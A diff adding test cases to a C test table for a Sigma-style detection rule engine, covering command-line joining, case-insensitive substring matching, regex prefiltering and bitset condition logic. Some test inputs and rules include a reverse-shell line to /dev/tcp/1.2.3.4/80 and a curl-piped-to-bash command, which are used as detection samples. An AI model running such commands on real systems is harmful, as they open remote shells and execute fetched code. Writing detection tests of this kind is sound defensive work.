@@ -160,6 +160,25 @@ static const struct mcase cases[] = {
 	{"startswith one byte", NULL, "sel:\n    CommandLine|startswith: 'c'\ncondition: sel", 0, {CMD("cp a")}, 1},
 	{"startswith one byte, other", NULL, "sel:\n    CommandLine|startswith: 'x'\ncondition: sel", 0, {CMD("cp a")}, 0},
 	{"endswith on an absent field", NULL, "sel:\n    ParentImage|endswith: '/sh'\ncondition: sel", 0, {EXE("/bin/sh")}, 0},
+	/* CommandLine is argv joined with spaces (16 bytes at a time, then the rest) */
+	{"CommandLine is argv joined", NULL, "sel:\n    CommandLine: 'a bb ccc dddd eeeee ffffff ggggggg hhhhhhhh iiiiiiiii j'\ncondition: sel", 0, {CMD("a\x1f" "bb\x1f" "ccc\x1f" "dddd\x1f" "eeeee\x1f" "ffffff\x1f" "ggggggg\x1f" "hhhhhhhh\x1f" "iiiiiiiii\x1f" "j")}, 1},
+	{"CommandLine is argv joined, one byte less", NULL, "sel:\n    CommandLine: 'a bb ccc dddd eeeee ffffff ggggggg hhhhhhhh iiiiiiiii j'\ncondition: sel", 0, {CMD("a\x1f" "bb\x1f" "ccc\x1f" "dddd\x1f" "eeeee\x1f" "ffffff\x1f" "ggggggg\x1f" "hhhhhhhh\x1f" "iiiiiiii\x1f" "j")}, 0},
+	{"CommandLine keeps an argument's spaces", NULL, "sel:\n    CommandLine: 'sh -c echo  a'\ncondition: sel", 0, {CMD("sh\x1f-c\x1f" "echo  a")}, 1},
+	/* lazy contains (the Image trie triggers; CommandLine's literals are searched for
+	 * directly, and scanned when a candidate asks about more than a few) */
+	{"lazy contains ignores case", NULL, "img:\n    Image|endswith: '/usr/bin/cp'\ncmd:\n    CommandLine|contains: 'TMP/X'\ncondition: img and cmd", 0, {EXE("/usr/bin/cp"), CMD("cp a /tmp/x.sh")}, 1},
+	{"lazy contains, value in capitals", NULL, "img:\n    Image|endswith: '/usr/bin/cp'\ncmd:\n    CommandLine|contains: 'tmp/x'\ncondition: img and cmd", 0, {EXE("/usr/bin/cp"), CMD("CP A /TMP/X.SH")}, 1},
+	{"lazy contains none", NULL, "img:\n    Image|endswith: '/usr/bin/cp'\ncmd:\n    CommandLine|contains: 'tmp/y'\ncondition: img and cmd", 0, {EXE("/usr/bin/cp"), CMD("cp a /tmp/x.sh")}, 0},
+	{"lazy contains at the start", NULL, "img:\n    Image|endswith: '/usr/bin/cp'\ncmd:\n    CommandLine|contains: 'cp a'\ncondition: img and cmd", 0, {EXE("/usr/bin/cp"), CMD("cp a /tmp/x.sh")}, 1},
+	{"lazy contains at the end", NULL, "img:\n    Image|endswith: '/usr/bin/cp'\ncmd:\n    CommandLine|contains: 'x.sh'\ncondition: img and cmd", 0, {EXE("/usr/bin/cp"), CMD("cp a /tmp/x.sh")}, 1},
+	{"lazy contains the whole value", NULL, "img:\n    Image|endswith: '/usr/bin/cp'\ncmd:\n    CommandLine|contains: 'cp a /tmp/x.sh'\ncondition: img and cmd", 0, {EXE("/usr/bin/cp"), CMD("cp a /tmp/x.sh")}, 1},
+	{"lazy contains longer than the value", NULL, "img:\n    Image|endswith: '/usr/bin/cp'\ncmd:\n    CommandLine|contains: 'cp a /tmp/x.shx'\ncondition: img and cmd", 0, {EXE("/usr/bin/cp"), CMD("cp a /tmp/x.sh")}, 0},
+	{"lazy contains, its rarest byte seen before", NULL, "img:\n    Image|endswith: '/usr/bin/cp'\ncmd:\n    CommandLine|contains: 'qqz'\ncondition: img and cmd", 0, {EXE("/usr/bin/cp"), CMD("cp qz qqqz")}, 1},
+	{"lazy contains, near misses only", NULL, "img:\n    Image|endswith: '/usr/bin/cp'\ncmd:\n    CommandLine|contains: 'qqz'\ncondition: img and cmd", 0, {EXE("/usr/bin/cp"), CMD("cp qz qqy zqq")}, 0},
+	{"lazy contains|cased", NULL, "img:\n    Image|endswith: '/usr/bin/cp'\ncmd:\n    CommandLine|contains|cased: ' -O '\ncondition: img and cmd", 0, {EXE("/usr/bin/cp"), CMD("cp -O x")}, 1},
+	{"lazy contains|cased, other case", NULL, "img:\n    Image|endswith: '/usr/bin/cp'\ncmd:\n    CommandLine|contains|cased: ' -O '\ncondition: img and cmd", 0, {EXE("/usr/bin/cp"), CMD("cp -o x")}, 0},
+	{"lazy contains|all, more literals than are searched directly", NULL, "img:\n    Image|endswith: '/usr/bin/cp'\ncmd:\n    CommandLine|contains|all: ['w01', 'w02', 'w03', 'w04', 'w05', 'w06', 'w07', 'w08', 'w09', 'w10', 'w11', 'w12', 'w13', 'w14', 'w15', 'w16', 'w17', 'w18', 'w19', 'w20']\ncondition: img and cmd", 0, {EXE("/usr/bin/cp"), CMD("cp w01 w02 w03 w04 w05 w06 w07 w08 w09 w10 w11 w12 w13 w14 w15 w16 w17 w18 w19 w20")}, 1},
+	{"lazy contains|all, more literals than are searched directly, last missing", NULL, "img:\n    Image|endswith: '/usr/bin/cp'\ncmd:\n    CommandLine|contains|all: ['w01', 'w02', 'w03', 'w04', 'w05', 'w06', 'w07', 'w08', 'w09', 'w10', 'w11', 'w12', 'w13', 'w14', 'w15', 'w16', 'w17', 'w18', 'w19', 'w20']\ncondition: img and cmd", 0, {EXE("/usr/bin/cp"), CMD("cp w01 w02 w03 w04 w05 w06 w07 w08 w09 w10 w11 w12 w13 w14 w15 w16 w17 w18 w19")}, 0},
 	{"contains with inner wildcard", NULL, "sel:\n    CommandLine|contains: 'curl*|*sh'\ncondition: sel", 0, {CMD("curl -s x | bash")}, 1},
 	{"contains|all", NULL, "sel:\n    CommandLine|contains|all: [' -i', '/dev/tcp/']\ncondition: sel", 0, {CMD("bash -i >& /dev/tcp/1.2.3.4/80")}, 1},
 	{"contains|all, one missing", NULL, "sel:\n    CommandLine|contains|all: [' -i', '/dev/udp/']\ncondition: sel", 0, {CMD("bash -i >& /dev/tcp/1.2.3.4/80")}, 0},
@@ -174,6 +193,15 @@ static const struct mcase cases[] = {
 	{"re is case-sensitive", NULL, "sel:\n    CommandLine|re: '\\s-[FTd]\\s'\ncondition: sel", 0, {CMD("curl -t x")}, 0},
 	{"re|i", NULL, "sel:\n    CommandLine|re|i: 'CURL\\s+-[a-z]'\ncondition: sel", 0, {CMD("curl -t x")}, 1},
 	{"re unanchored", NULL, "sel:\n    CommandLine|re: 'b.s'\ncondition: sel", 0, {CMD("xx bas yy")}, 1},
+	/* regular expressions with required literals: prefiltered in the trigger scan (where
+	 * their field is scanned anyway: five more literals on it) */
+	{"re, prefiltered", NULL, "sel:\n    CommandLine|re: '--p(ay|ort)=\\d+'\nother:\n    CommandLine|contains: ['zq1', 'zq2', 'zq3', 'zq4', 'zq5']\ncondition: sel or other", 0, {CMD("nc --port=80 x")}, 1},
+	{"re, prefiltered, literal without a match", NULL, "sel:\n    CommandLine|re: '--p(ay|ort)=\\d+'\nother:\n    CommandLine|contains: ['zq1', 'zq2', 'zq3', 'zq4', 'zq5']\ncondition: sel or other", 0, {CMD("nc --port=x80")}, 0},
+	{"re, prefiltered, other case", NULL, "sel:\n    CommandLine|re: '--p(ay|ort)=\\d+'\nother:\n    CommandLine|contains: ['zq1', 'zq2', 'zq3', 'zq4', 'zq5']\ncondition: sel or other", 0, {CMD("nc --PORT=80")}, 0},
+	{"re|i, prefiltered, other case", NULL, "sel:\n    CommandLine|re|i: '--p(ay|ort)=\\d+'\nother:\n    CommandLine|contains: ['zq1', 'zq2', 'zq3', 'zq4', 'zq5']\ncondition: sel or other", 0, {CMD("nc --PORT=80")}, 1},
+	{"re, prefiltered, literal in another field", NULL, "sel:\n    CommandLine|re: '--p(ay|ort)=\\d+'\nother:\n    CommandLine|contains: ['zq1', 'zq2', 'zq3', 'zq4', 'zq5']\ncondition: sel or other", 0, {EXE("/x--port=80"), CMD("nc")}, 0},
+	{"re, prefiltered, among literals", NULL, "sel:\n    CommandLine|re: '--p(ay|ort)=\\d+'\nlit:\n    CommandLine|contains: ['--pay', 'zz']\nother:\n    CommandLine|contains: ['zq1', 'zq2', 'zq3', 'zq4', 'zq5']\ncondition: (sel or other) and not lit", 0, {CMD("nc --port=80")}, 1},
+	{"re, prefiltered, at the end", NULL, "sel:\n    CommandLine|re: 'x--pay=\\d$'\nother:\n    CommandLine|contains: ['zq1', 'zq2', 'zq3', 'zq4', 'zq5']\ncondition: sel or other", 0, {CMD("nc x--pay=1")}, 1},
 	{"re anchors", NULL, "sel:\n    CommandLine|re: '^bas$'\ncondition: sel", 0, {CMD("xx bas yy")}, 0},
 	{"re|m line anchors", NULL, "sel:\n    CommandLine|re|m: '^second$'\ncondition: sel", 0, {CMD("first\nsecond")}, 1},
 	{"re without m", NULL, "sel:\n    CommandLine|re: '^second$'\ncondition: sel", 0, {CMD("first\nsecond")}, 0},
@@ -222,6 +250,16 @@ static const struct mcase cases[] = {
 	{"cidr v6 outside", "network_connection", "sel:\n    DestinationIp|cidr: '::1/128'\ncondition: sel", RF_CLASS_NET_CONNECT, {"DestinationIp", "::2"}, 0},
 	{"ip equality", "network_connection", "sel:\n    DestinationIp: 127.0.0.1\ncondition: sel", RF_CLASS_NET_CONNECT, {"DestinationIp", "127.0.0.1"}, 1},
 	{"port list", "network_connection", "sel:\n    DestinationPort: [4444, 1337]\n    Initiated: 'true'\ncondition: sel", RF_CLASS_NET_CONNECT, {"DestinationPort", "4444", "Initiated", "true"}, 1},
+	/* bit groups of the flattened conditions: and, or, 1 of, all of over tests whose
+	 * values are bits (atoms in several words of the bitset) */
+	{"or over more than 64 values, the last one", NULL, "sel:\n    CommandLine|contains: ['v01', 'v02', 'v03', 'v04', 'v05', 'v06', 'v07', 'v08', 'v09', 'v10', 'v11', 'v12', 'v13', 'v14', 'v15', 'v16', 'v17', 'v18', 'v19', 'v20', 'v21', 'v22', 'v23', 'v24', 'v25', 'v26', 'v27', 'v28', 'v29', 'v30', 'v31', 'v32', 'v33', 'v34', 'v35', 'v36', 'v37', 'v38', 'v39', 'v40', 'v41', 'v42', 'v43', 'v44', 'v45', 'v46', 'v47', 'v48', 'v49', 'v50', 'v51', 'v52', 'v53', 'v54', 'v55', 'v56', 'v57', 'v58', 'v59', 'v60', 'v61', 'v62', 'v63', 'v64', 'v65', 'v66', 'v67', 'v68', 'v69', 'v70']\ncondition: sel", 0, {CMD("x v70 y")}, 1},
+	{"or over more than 64 values, none", NULL, "sel:\n    CommandLine|contains: ['v01', 'v02', 'v03', 'v04', 'v05', 'v06', 'v07', 'v08', 'v09', 'v10', 'v11', 'v12', 'v13', 'v14', 'v15', 'v16', 'v17', 'v18', 'v19', 'v20', 'v21', 'v22', 'v23', 'v24', 'v25', 'v26', 'v27', 'v28', 'v29', 'v30', 'v31', 'v32', 'v33', 'v34', 'v35', 'v36', 'v37', 'v38', 'v39', 'v40', 'v41', 'v42', 'v43', 'v44', 'v45', 'v46', 'v47', 'v48', 'v49', 'v50', 'v51', 'v52', 'v53', 'v54', 'v55', 'v56', 'v57', 'v58', 'v59', 'v60', 'v61', 'v62', 'v63', 'v64', 'v65', 'v66', 'v67', 'v68', 'v69', 'v70']\ncondition: sel", 0, {CMD("x v71 y")}, 0},
+	{"and of two numeric tests", "network_connection", "a:\n    DestinationPort|gt: 1000\nb:\n    DestinationPort|lt: 2000\ncondition: a and b", RF_CLASS_NET_CONNECT, {"DestinationPort", "1500"}, 1},
+	{"and of two numeric tests, one false", "network_connection", "a:\n    DestinationPort|gt: 1000\nb:\n    DestinationPort|lt: 2000\ncondition: a and b", RF_CLASS_NET_CONNECT, {"DestinationPort", "2500"}, 0},
+	{"all of numeric tests", "network_connection", "x1:\n    DestinationPort|gt: 1000\nx2:\n    DestinationPort|lt: 2000\nx3:\n    DestinationPort|gte: 1500\ncondition: all of x*", RF_CLASS_NET_CONNECT, {"DestinationPort", "1500"}, 1},
+	{"all of numeric tests, one false", "network_connection", "x1:\n    DestinationPort|gt: 1000\nx2:\n    DestinationPort|lt: 2000\nx3:\n    DestinationPort|gte: 1600\ncondition: all of x*", RF_CLASS_NET_CONNECT, {"DestinationPort", "1500"}, 0},
+	{"1 of numeric tests and a lazy one", "network_connection", "x1:\n    DestinationPort|gt: 3000\nx2:\n    DestinationPort|lt: 1000\nx3:\n    DestinationIp|cidr: 10.0.0.0/8\ncondition: 1 of x*", RF_CLASS_NET_CONNECT, {"DestinationPort", "1500", "DestinationIp", "10.1.2.3"}, 1},
+	{"1 of numeric tests, none", "network_connection", "x1:\n    DestinationPort|gt: 3000\nx2:\n    DestinationPort|lt: 1000\nx3:\n    DestinationIp|cidr: 10.0.0.0/8\ncondition: 1 of x*", RF_CLASS_NET_CONNECT, {"DestinationPort", "1500", "DestinationIp", "11.1.2.3"}, 0},
 	{"port list, other port", "network_connection", "sel:\n    DestinationPort: [4444, 1337]\ncondition: sel", RF_CLASS_NET_CONNECT, {"DestinationPort", "80"}, 0},
 	{"accept is network_connection too", "network_connection", "sel:\n    SourcePort: 22\ncondition: sel", RF_CLASS_NET_ACCEPT, {"SourcePort", "22"}, 1},
 	/* file events: all three classes */
